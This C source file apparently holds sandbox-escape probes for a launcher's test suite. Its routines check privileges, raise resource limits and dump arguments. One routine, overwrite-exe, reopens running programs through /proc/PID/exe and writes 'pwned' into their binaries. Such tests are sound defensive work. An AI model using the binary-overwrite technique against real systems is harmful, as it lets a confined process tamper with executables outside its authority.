/* Privilege: the launcher's own program, ids and capabilities, resource limits, arguments as they arrive. */
#include "attack.h"

#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <sys/resource.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

/* overwrite-exe PATH…: takes hold of running programs by their /proc/PID/exe and writes to the first that lets it.
 * A running program is "text file busy": an O_PATH descriptor outlives the process, so trying again helps. */
static int overwrite_program(int argc, char **argv)
{
	char path[64];
	int held[16], count = 0, last = ENOENT;

	for (int i = 1; i < argc && count < 16; i++) {
		held[count] = open(argv[i], O_PATH | O_CLOEXEC);
		if (held[count] >= 0)
			count++;
		else
			last = errno;
	}
	printf("held %d\n", count);
	for (int attempt = 0; attempt < 50; attempt++) {
		for (int i = 0; i < count; i++) {
			int fd;

			snprintf(path, sizeof(path), "/proc/self/fd/%d", held[i]);
			fd = open(path, O_WRONLY | O_CLOEXEC);
			if (fd >= 0)
				return attack_verdict("write", pwrite(fd, "pwned", 5, 0));
			last = errno;
		}
		nanosleep(&(const struct timespec){.tv_nsec = 20000000}, NULL);
	}
	errno = last;
	return attack_verdict("open", -1);
}

/* ids: prints effective ids and capability sets; worked = there is a capability, or an id that is not EUID. */
static int show_ids(int argc, char **argv)
{
	uid_t expected = (uid_t)attack_number(argc > 1 ? argv[1] : NULL);
	unsigned long long set, any = 0;
	char line[256];
	FILE *status = fopen("/proc/self/status", "re");

	if (!status)
		return attack_broken("/proc/self/status");
	printf("euid %u egid %u\n", geteuid(), getegid());
	while (fgets(line, sizeof(line), status)) {
		if (sscanf(line, "CapInh: %llx", &set) == 1 || sscanf(line, "CapPrm: %llx", &set) == 1 ||
		    sscanf(line, "CapEff: %llx", &set) == 1 || sscanf(line, "CapBnd: %llx", &set) == 1 ||
		    sscanf(line, "CapAmb: %llx", &set) == 1) {
			printf("%s", line);
			any |= set;
		}
	}
	fclose(status);
	errno = EPERM;
	return attack_verdict("privileges", any || geteuid() != expected ? 0 : -1);
}

/* raise-limit RESOURCE VALUE: sets soft and hard limit of a resource, by number. */
static int raise_limit(int argc, char **argv)
{
	rlim_t value = attack_number(argc > 2 ? argv[2] : NULL);
	struct rlimit limit = {value, value};

	return attack_verdict("setrlimit", syscall(SYS_setrlimit, attack_number(argv[1]), &limit));
}

/* raise-prlimit RESOURCE VALUE: the same by prlimit on itself by pid. */
static int raise_by_prlimit(int argc, char **argv)
{
	rlim_t value = attack_number(argc > 2 ? argv[2] : NULL);
	struct rlimit limit = {value, value};

	return attack_verdict("prlimit", syscall(SYS_prlimit64, getpid(), attack_number(argv[1]), &limit, NULL));
}

/* arguments …: prints every argument as hexadecimal digits, one a line. */
static int show_arguments(int argc, char **argv)
{
	for (int i = 1; i < argc; i++) {
		for (const char *at = argv[i]; *at; at++)
			printf("%02x", (unsigned char)*at);
		printf("\n");
	}
	return ATTACK_WORKED;
}

const struct attack attacks_privilege[] = {
	{"overwrite-exe", overwrite_program}, {"ids", show_ids},
	{"raise-limit", raise_limit},         {"raise-prlimit", raise_by_prlimit},
	{"arguments", show_arguments},        {NULL, NULL},
};
